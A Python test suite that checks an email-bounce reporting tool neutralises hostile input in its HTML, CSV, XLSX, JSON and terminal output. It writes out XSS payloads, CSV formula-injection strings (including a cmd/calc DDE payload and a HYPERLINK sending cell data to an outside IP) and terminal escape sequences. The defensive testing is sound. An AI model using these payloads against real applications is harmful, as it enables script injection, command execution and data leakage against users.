#!/usr/bin/env python3
"""Hostile content, end to end through the binary: what a bounce's bytes
could do to the reports and the terminal.

Every case writes its input here (nothing large is committed), runs one
command as a child process and asserts a clear outcome under the hang guard
and the peak-RSS bound of hostile.py; a good bounce beside the bad input must
still come out.

Cases: script and markup in every field (no input-derived markup in the HTML),
CSV formula payloads, NUL bytes, invalid UTF-8 and lying charset labels,
broken base64 and quoted-printable, escape sequences for the terminal.
"""
import base64
import csv
import html.parser
import io
import json
import os
import re
import sys
import xml.dom.minidom
import xml.parsers.expat
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bsutil import mbox, write  # noqa: E402
from hostile import (Failure, b64_lines, bounded, check, dump_with_survivor, good,  # noqa: E402
                     report, run_cases)

# ---- HTML: what the report's markup is ----------------------------------

class Markup(html.parser.HTMLParser):
    """tags, attributes and the text inside <script>/<style> of a page"""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []        # (tag, [(attr, value)])
        self.raw = []         # (tag, text) of script and style elements
        self._in = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        if tag in ("script", "style"):
            self._in = tag

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in:
            self.raw.append((self._in, data))


def markup_of(path):
    with open(path, "rb") as fh:
        data = fh.read()
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        raise Failure("%s is not valid UTF-8: %s" % (path, e))
    m = Markup()
    m.feed(text)
    m.close()
    return m, text


MARK = "pwn7"   # in every payload: input-derived text carries it


def payloads(tag):
    """markup payloads, each naming its field"""
    return {
        "script": f"<script>alert('{MARK}-{tag}')</script>",
        "img": f"\"><img src=x onerror=alert('{MARK}-{tag}')>",
        "svg": f"'><svg/onload=alert('{MARK}-{tag}')>",
        "iframe": f"<iframe src=javascript:alert('{MARK}-{tag}')></iframe>",
        "style": f"</style><style>body{{background:url('{MARK}-{tag}')}}</style>",
        "meta": f"<meta http-equiv=refresh content='0;url=javascript:alert(\"{MARK}-{tag}\")'>",
        "a": f"<a href=\"javascript:alert('{MARK}-{tag}')\" onclick=x>{MARK}</a>",
    }


def case_markup(tmp):
    """script and markup in every field: none of it becomes markup in the HTML"""
    tree = os.path.join(tmp, "mail")
    n = 0
    for kind, _ in payloads("x").items():
        def p(field, kind=kind):
            return payloads(field)[kind]
        fields = {
            "from": "\"%s\" <MAILER-DAEMON@mail.example.jp>" % p("bfrom").replace('"', "'"),
            "subject": "Undelivered Mail Returned to Sender " + p("bsubject"),
            "msgid": "<%s@mail.example.jp>" % p("bmsgid"),
            "text": "Your message could not be delivered. " + p("btext"),
            "reporting_mta": "dns; %s.example.jp" % p("rmta"),
            "arrival": p("arrival"),
            "rcpt": "rfc822; \"%s\"@example.com" % p("rcpt").replace('"', "'"),
            "orcpt": "rfc822; %s@example.com" % p("orcpt"),
            "action": "failed " + p("action"),
            "status": "5.7.1 " + p("status"),
            "remote_mta": "dns; " + p("remote"),
            "diag": "smtp; 550 5.7.1 %s blocked by %s" % (p("diag"), p("diag2")),
            "last": p("last"),
            "ofrom": "\"%s\" <taro@shop.example.jp>" % p("ofrom").replace('"', "'"),
            "oto": "%s@example.com" % p("oto"),
            "osubject": p("osubject"),
            "odate": p("odate"),
            "omsgid": "<%s@shop.example.jp>" % p("omsgid"),
        }
        n += 1
        write(os.path.join(tree, "%02d-%s.eml" % (n, kind)), report(fields))
        # the file name is a field too (it is the record's source)
        name = payloads("fname")[kind].replace("/", " ")[:200]
        write(os.path.join(tree, name + ".eml"), report({"rcpt": "rfc822; f%d@example.com" % n}))
    good(tree)
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "ad-hoc report of markup: exit %d: %s" % (res.rc, res.err[-2000:]))
    # a baseline page from benign input: which tags and attributes the report itself uses
    base_tree = os.path.join(tmp, "benign")
    write(os.path.join(base_tree, "a.eml"), report())
    good(base_tree)
    base_out = os.path.join(tmp, "base")
    bres = bounded([base_tree, "-o", base_out])
    check(bres.rc == 0, "baseline report: exit %d" % bres.rc)
    base, _ = markup_of(os.path.join(base_out, "report.html"))
    base_tags = {t for t, _ in base.tags}
    base_attrs = {(t, a) for t, attrs in base.tags for a, _ in attrs}

    db = os.path.join(tmp, "m.db")
    res = bounded(["scan", "--db", db, tree])
    check(res.rc in (0, 3), "scan of markup: exit %d: %s" % (res.rc, res.err[-2000:]))
    pages = [os.path.join(out, "report.html")]
    for lang in ("en", "ja"):
        page = os.path.join(tmp, "r-%s.html" % lang)
        res = bounded(["report", "--db", db, "--html", page, "--lang", lang,
                       "--title", payloads("title")["script"]])
        check(res.rc == 0, "report --lang %s: exit %d: %s" % (lang, res.rc, res.err[-2000:]))
        pages.append(page)
    for page in pages:
        m, text = markup_of(page)
        check(MARK in text, "%s: the hostile values are shown (escaped): %s not found"
              % (page, MARK))
        for tag, attrs in m.tags:
            check(tag in base_tags, "%s: tag <%s> from input (not in the report's own markup)"
                  % (page, tag))
            for a, v in attrs:
                check(not a.startswith("on"), "%s: event attribute %s=%r" % (page, a, v))
                check((tag, a) in base_attrs, "%s: attribute %s on <%s> from input"
                      % (page, a, tag))
                if a in ("href", "src", "action", "formaction", "content"):
                    check(MARK not in (v or "") and "javascript:" not in (v or "").lower(),
                          "%s: %s=%r carries input" % (page, a, v))
        for tag, data in m.raw:
            check(MARK not in data, "%s: input inside <%s>: %r" % (page, tag, data[:200]))
    # and the CSV and JSON carry the values as text
    with open(os.path.join(out, "failures.csv"), encoding="utf-8") as fh:
        check(MARK in fh.read(), "failures.csv shows the hostile values")
    # the incidents as JSON: valid, whatever the bounces' bytes
    js = os.path.join(tmp, "incidents.json")
    res = bounded(["report", "--db", db, "--json", js])
    check(res.rc == 0, "report --json: exit %d: %s" % (res.rc, res.err[-2000:]))
    with open(js, "rb") as fh:
        json.loads(fh.read().decode("utf-8"))
    res = bounded(["changes", "--db", db, "--json"])
    check(res.rc in (0, 3), "changes --json: exit %d: %s" % (res.rc, res.err[-2000:]))
    json.loads(res.out.decode("utf-8"))
    res = bounded(["changes", "--db", db, "--since", "1970-01-01", "--lang", "ja"])
    check(res.rc in (0, 3), "changes --lang ja: exit %d: %s" % (res.rc, res.err[-2000:]))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def case_csv_formulas(tmp):
    """cells that start with = + - @ TAB CR are neutralised in every CSV"""
    tree = os.path.join(tmp, "mail")
    pl = [
        "=HYPERLINK(\"http://203.0.113.9/x?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\uff1dcmd|' /C calc'!A0",
    ]
    encoded = lambda s: "=?utf-8?B?%s?=" % base64.b64encode(s.encode()).decode()  # noqa: E731
    for i, p in enumerate(pl):
        # a TAB or CR at the start after decoding of an encoded word
        lead = ["\t", "\r", ""][i % 3]
        fields = {
            "rcpt": "rfc822; %s@example.com" % ["=1+1", "+1", "-1", "@x", "=cmd", "-x"][i]
            if i not in (3, 4) else "rfc822; \"%s\"@example.com" % ["-2+3", "@SUM(1)"][i - 3],
            "diag": "smtp; " + p,
            "osubject": encoded(lead + p),
            "ofrom": encoded(lead + p) + " <taro@shop.example.jp>",
            "oto": p,
            "omsgid": "<%s@shop.example.jp>" % p,
            "odate": p,
            "status": "5.1.1",
            "remote_mta": "dns; " + p,
            "reporting_mta": "dns; " + p,
            "subject": encoded("\t" + p),
            "action": "failed",
        }
        write(os.path.join(tree, "f%d.eml" % i), report(fields, encoding="utf-8").replace(
            b"Content-Type: text/plain\n", b"Content-Type: text/plain; charset=utf-8\n"))
    good(tree)
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "ad-hoc report: exit %d: %s" % (res.rc, res.err[-2000:]))
    excel = os.path.join(tmp, "excel")
    db = os.path.join(tmp, "c.db")
    bounded(["scan", "--db", db, tree])
    res = bounded(["report", "--db", db, "--csv", excel, "--excel"])
    check(res.rc == 0, "report --excel: exit %d: %s" % (res.rc, res.err[-2000:]))
    seen_guard = 0
    for d in (out, excel):
        for name in sorted(os.listdir(d)):
            if not name.endswith(".csv"):
                continue
            with open(os.path.join(d, name), "rb") as fh:
                data = fh.read()
            try:
                text = data.decode("utf-8-sig")
            except UnicodeDecodeError as e:
                raise Failure("%s/%s is not UTF-8: %s" % (d, name, e))
            rows = list(csv.reader(io.StringIO(text, newline="")))
            for row in rows:
                for cell in row:
                    if cell.startswith("'") and cell[1:2] and cell[1] in "".join(FORMULA_STARTS):
                        seen_guard += 1
                    check(not cell.startswith(FORMULA_STARTS) or _number(cell),
                          "%s/%s: a cell a spreadsheet would run: %r" % (d, name, cell[:80]))
    check(seen_guard >= 6, "the payloads were written, guarded (%d guarded cells)" % seen_guard)
    # the workbook: its string cells need no guard, it has no formula at all
    parts = workbook_parts(os.path.join(out, "report.xlsx"))
    for name, data in parts.items():
        # cells are in the worksheets (a chart's series name their ranges in <c:f>)
        check(not name.startswith("xl/worksheets/") or not re.search(r"<(?:\w+:)?f[ >/]", data),
              "report.xlsx: a formula in %s" % name)
    check(any("=cmd|' /C calc'!A0" in d for d in parts.values()), "report.xlsx lacks the payloads")


def workbook_parts(path):
    """the XML parts of a workbook, each checked to be UTF-8 and well-formed"""
    parts = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            data = z.read(name)
            try:
                text = data.decode("utf-8")
                xml.dom.minidom.parseString(data)
            except (UnicodeDecodeError, xml.parsers.expat.ExpatError) as e:
                raise Failure("report.xlsx: %s is not well-formed UTF-8 XML: %s" % (name, e))
            parts[name] = text
    return parts


def _number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


def case_nul_bytes(tmp):
    """NUL bytes in headers, DSN fields and text: valid JSON, no C-string cut-off crash"""
    base = report({"diag": "smtp; 550 5.1.1 user\x00unknown\x00", "osubject": "Or\x00der",
                   "text": "Your message could not be delivered." + " padding" * 600 + "\x00."})
    # a NUL after the 4 KB that the kind sniffing reads: a message file
    tree = os.path.join(tmp, "mail")
    late = base.replace(b"Final-Recipient", b"X-Junk: a\x00b\nFinal-Recipient")
    write(os.path.join(tree, "late-nul.eml"), late)
    # NULs in the body, within the first 4 KB: still a message
    write(os.path.join(tree, "body-nul.eml"), report({
        "rcpt": "rfc822; body@example.com", "diag": "smtp; 550 5.1.1 user\x00unknown",
        "text": "Your message\x00 could not be delivered."}))
    # an mbox whose first message has a NUL in its body: every message read
    write(os.path.join(tree, "nul.mbox"), mbox([
        report({"rcpt": "rfc822; mb1@example.com", "text": "Not\x00delivered."}),
        report({"rcpt": "rfc822; mb2@example.com"})]))
    # a NUL in the header block: not mail (a binary file), named and skipped
    write(os.path.join(tree, "early-nul.eml"), b"From: x\x00\n" + base)
    good(tree)
    res, recs, und = dump_with_survivor(tree)
    got = {r["recipient"] for r in recs}
    for want in ("hanako@example.com", "body@example.com", "mb1@example.com", "mb2@example.com"):
        check(want in got, "NUL bytes in a body: %s read: %s / %s" % (want, sorted(got), res.err))
    check("early-nul.eml" in res.err, "the binary-looking file is named: %s" % res.err)
    for r in recs:
        for k, v in r.items():
            check(not isinstance(v, str) or "\x00" not in v, "NUL in %s: %r" % (k, v))
    # the same bytes on standard input (no sniffing there)
    res = bounded(["dump", "-"], stdin=b"From: x\n" + base.replace(b"Reporting-MTA", b"X:\x00\nReporting-MTA"))
    res.records()
    check(res.rc in (0, 1), "stdin with NULs: exit %d" % res.rc)


def case_bad_utf8(tmp):
    """invalid UTF-8 and lying charset labels: output is valid UTF-8 JSON"""
    tree = os.path.join(tmp, "mail")
    bad = "\xff\xfe\xc3\x28\xe2\x82\xa1\xa0\xf0\x28\x8c\xbc\xed\xa0\x80\xc0\xaf"  # latin-1 carrier
    sjis = "\x83e\x83X\x83g"        # "テスト" in Shift_JIS, raw
    cases = {
        "raw-8bit": {"diag": "smtp; 550 5.1.1 " + bad, "osubject": bad, "ofrom": bad + " <taro@shop.example.jp>"},
        "utf8-label-lies": {"osubject": "=?utf-8?B?%s?=" % base64.b64encode(b"\xff\xfe\xc3(").decode(),
                            "subject": "=?utf-8?Q?=FF=FE=C3=28?="},
        "iso2022jp-label-lies": {"osubject": "=?iso-2022-jp?B?%s?=" % base64.b64encode(b"\xe3\x81\x82\xff").decode(),
                                 "diag": "smtp; 550 5.1.1 \x1b$B\xff\xff\x1b(B"},
        "unknown-charset": {"osubject": "=?x-no-such-charset?Q?abc=FF?=",
                            "subject": "=?utf-7?B?%s?=" % base64.b64encode(b"+AGEAYgBj-+ZZZZ").decode()},
        "shiftjis-as-utf8": {"osubject": sjis, "text": sjis * 50},
        "overlong-encoded-word": {"osubject": "=?utf-8?B?" + "4oKs" * 5000 + "?=",
                                  "subject": "=?" + "u" * 300 + "?B?YWJj?="},
        "bad-encoded-word": {"osubject": "=?utf-8?X?abc?= =?utf-8?B?***?= =?utf-8?Q?=?= =?=?",
                             "subject": "=?utf-8?B?"},
    }
    for name, fields in cases.items():
        data = report(fields)
        if name == "iso2022jp-label-lies" or name == "shiftjis-as-utf8":
            data = data.replace(b"Content-Type: text/plain\n",
                                b"Content-Type: text/plain; charset=\"iso-2022-jp\"\n")
            data = data.replace(b"Content-Type: message/delivery-status\n",
                                b"Content-Type: message/delivery-status; charset=utf-16\n")
        write(os.path.join(tree, name + ".eml"), data)
    good(tree)
    res, recs, und = dump_with_survivor(tree)
    got = {os.path.basename(r["source"]) for r in recs}
    for name in cases:
        check(name + ".eml" in got, "%s: its record comes out: %s" % (name, sorted(got)))
    for r in recs:
        json.dumps(r, ensure_ascii=False).encode("utf-8")   # no lone surrogates
    # and the reports are valid UTF-8 too
    out = os.path.join(tmp, "out")
    res = bounded([tree, "-o", out])
    check(res.rc == 0, "report: exit %d" % res.rc)
    for name in os.listdir(out):
        if name.endswith(".xlsx"):
            workbook_parts(os.path.join(out, name))
            continue
        with open(os.path.join(out, name), "rb") as fh:
            try:
                fh.read().decode("utf-8")
            except UnicodeDecodeError as e:
                raise Failure("%s is not UTF-8: %s" % (name, e))


def case_broken_encodings(tmp):
    """broken base64 and quoted-printable in the bounce's own parts"""
    tree = os.path.join(tmp, "mail")
    status = ("Reporting-MTA: dns; mail.example.jp\n\nFinal-Recipient: rfc822; %s\n"
              "Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n")

    def mk(name, rcpt, cte, payload):
        text = ("From: MAILER-DAEMON@mail.example.jp\nTo: taro@shop.example.jp\n"
                "Subject: Undelivered Mail Returned to Sender\nMIME-Version: 1.0\n"
                "Content-Type: multipart/report; report-type=delivery-status; boundary=\"Q\"\n\n"
                "--Q\nContent-Type: text/plain\n\nDelivery failed.\n\n"
                "--Q\nContent-Type: message/delivery-status\nContent-Transfer-Encoding: %s\n\n"
                "%s\n--Q--\n") % (cte, payload)
        write(os.path.join(tree, name), text.encode("latin-1"))

    good64 = b64_lines((status % "b64@example.com").encode())
    mk("b64-garbage.eml", "", "base64", good64[:40] + "!!*&^%$\x01\x7f" + good64[40:])
    mk("b64-no-padding.eml", "", "base64", good64.rstrip("="))
    mk("b64-cut.eml", "", "base64", good64[: len(good64) // 2 + 3])
    mk("b64-padding-middle.eml", "", "base64", "====\n" + good64 + "\n====AAAA====")
    mk("b64-not-at-all.eml", "", "base64", "\xff\xfe not base64 at all \x00 " * 100)
    mk("b64-huge-line.eml", "", "base64", base64.b64encode((status % "b64line@example.com").encode()
                                                           + b" " * 300000).decode())
    qp = (status % "qp@example.com").replace("\n", "=0A=\n")
    mk("qp-bad-escapes.eml", "", "quoted-printable", qp + "=ZZ=4=\n=G1==\xff=")
    mk("qp-soft-everywhere.eml", "", "quoted-printable",
       "=\n".join(status % "qpsoft@example.com") + "=")
    mk("qp-trailing-equals.eml", "", "quoted-printable", (status % "qpend@example.com") + "=" * 5000)
    mk("unknown-cte.eml", "", "x-rot13", status % "rot@example.com")
    good(tree)
    res, recs, und = dump_with_survivor(tree)
    rc = {r["recipient"] for r in recs}
    for want in ("b64@example.com", "qp@example.com", "qpsoft@example.com", "qpend@example.com"):
        check(want in rc, "%s read through the broken encoding: %s" % (want, sorted(rc)))
    named = {os.path.basename(r["source"]) for r in recs} | {os.path.basename(u["source"]) for u in und}
    for f in os.listdir(tree):
        check(f in named or f in res.err or f == "good.eml",
              "%s: a clear outcome (a record, or named as not decoded/not a bounce): %s"
              % (f, res.err[-1500:]))



def case_terminal(tmp):
    """file names that would drive a terminal (ESC sequences, C1 controls)
    are shown with '?' in the messages on stderr"""
    tree = os.path.join(tmp, "mail")
    good(tree)
    esc = ["title-\x1b]0;pwned\x07.eml", "clear-\x1b[2J\x1b[31m.eml", "c1-\xc2\x9b31m.eml"]
    write(os.path.join(tree, esc[0]), b"\x7fELF binary")
    write(os.path.join(tree, esc[1]), b"")
    write(os.path.join(tree, esc[2]), b"From: MAILER-DAEMON@example.jp\nSubject: Undelivered Mail"
          b" Returned to Sender\nContent-Type: multipart/report; boundary=Z\n\n--Z\n"
          b"Content-Type: message/delivery-status\n\nAction: failed\n--Z--\n")
    for args in (["dump", tree], ["scan", "--db", os.path.join(tmp, "t.db"), tree]):
        res = bounded(args)
        check(res.rc in (0, 3), "%s: exit %d" % (args[0], res.rc))
        check("\x1b" not in res.err and "\x07" not in res.err and "\u009b" not in res.err,
              "%s: control characters reach the terminal: %r" % (args[0], res.err[-600:]))
        check("title-?]0;pwned?.eml" in res.err and "clear-?[2J?[31m.eml" in res.err,
              "%s: the names are shown with '?': %r" % (args[0], res.err[-600:]))
    # escape sequences inside the message (raw and in encoded words) never
    # reach explain's output: every field is cleaned of control characters
    e = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
    msg = os.path.join(tmp, "esc.eml")
    write(msg, report({"diag": "smtp; 550 5.1.1 " + e + " user unknown", "remote_mta": "dns; " + e,
                       "osubject": "=?utf-8?B?%s?=" % base64.b64encode(e.encode()).decode(),
                       "ofrom": e + " <taro@shop.example.jp>", "subject": e + "Undelivered"}))
    for lang in ("en", "ja"):
        res = bounded(["explain", "--lang", lang, msg])
        out = res.out.decode("utf-8", "replace")
        check(res.rc == 0 and "hanako@example.com" in out, "explain: exit %d: %s" % (res.rc, res.err))
        check("\x1b" not in out and "\x07" not in out and "\u009b" not in out,
              "explain --lang %s prints control characters: %r" % (lang, out[:400]))

CASES = [
    case_terminal, case_markup, case_csv_formulas, case_nul_bytes, case_bad_utf8,
    case_broken_encodings,
]


if __name__ == "__main__":
    run_cases(CASES)
